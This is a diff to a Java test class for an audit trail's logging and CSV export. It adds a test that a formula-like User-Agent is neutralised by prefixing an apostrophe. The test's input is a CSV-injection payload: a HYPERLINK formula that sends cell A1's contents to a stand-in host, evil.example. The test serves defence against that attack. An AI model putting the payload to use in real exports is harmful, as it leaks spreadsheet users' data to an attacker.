@@ -102,7 +102,7 @@ class AuditTrailTest {
         JsonNode unreadable = latest("type=POST%20/api/pipes&outcome=REJECTED_INVALID");
         assertThat(unreadable.get("channel").asText()).isEqualTo("HTTP");
         assertThat(unreadable.get("user").asText()).isEqualTo("admin");
-        assertThat(unreadable.get("payload").asText()).isEqualTo("{\"id\": \"VA-A4\", ");
+        assertThat(unreadable.get("payload").asText()).doesNotContain("VA-A4").contains("\"bytes\":16").contains("sha256");
         assertThat(unreadable.get("reason").asText()).contains("not valid JSON");
         assertThat(unreadable.get("httpStatus").asInt()).isEqualTo(400);
     }
@@ -171,7 +171,8 @@ class AuditTrailTest {
                 JsonNode value = line.get(AuditExport.CSV_HEADER.get(c));
                 String expected = value.isNull() ? null : value.isArray()
                         ? String.join(" ", iterable(value)) : value.asText();
-                assertThat(row.get(c)).as("row %d column %s", i, AuditExport.CSV_HEADER.get(c)).isEqualTo(expected);
+                String cell = row.get(c) != null && row.get(c).startsWith("'") ? row.get(c).substring(1) : row.get(c);
+                assertThat(cell).as("row %d column %s", i, AuditExport.CSV_HEADER.get(c)).isEqualTo(expected);
             }
         }
     }
@@ -219,6 +220,21 @@ class AuditTrailTest {
         assertThat(verified.json().get("valid").asBoolean()).isFalse();
         assertThat(verified.json().get("firstInvalidSeq").asLong()).isEqualTo(target);
         assertThat(verified.json().get("reason").asText()).contains("does not match its hash");
+    }
+
+    @Test
+    @Order(9)
+    void anUnauthenticatedUserAgentThatLooksLikeAFormulaIsNeutralisedInTheCsvExport() {
+        String agent = "=HYPERLINK(\"http://evil.example/\"&A1,\"Klicka\")";
+        assertThat(Api.anonymous(port).send("POST", "/api/pipes", "application/json", "{}".getBytes(), "User-Agent", agent)
+                .status()).isEqualTo(401);
+        var csv = auditor.get("/api/audit/export?format=csv");
+        List<List<String>> rows = Csv.parse(csv.body());
+        int column = AuditExport.CSV_HEADER.indexOf("userAgent");
+        List<String> cells = rows.stream().skip(1).map(r -> r.get(column)).filter(c -> c != null && c.contains("HYPERLINK")).toList();
+        assertThat(cells).isNotEmpty().allSatisfy(cell -> assertThat(cell).isEqualTo("'" + agent));
+        assertThat(rows.stream().skip(1).flatMap(List::stream)
+                .filter(c -> c != null && !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0 && !c.matches("-?[0-9.]+"))).isEmpty();
     }
 
     private static Iterable<String> iterable(JsonNode array) {
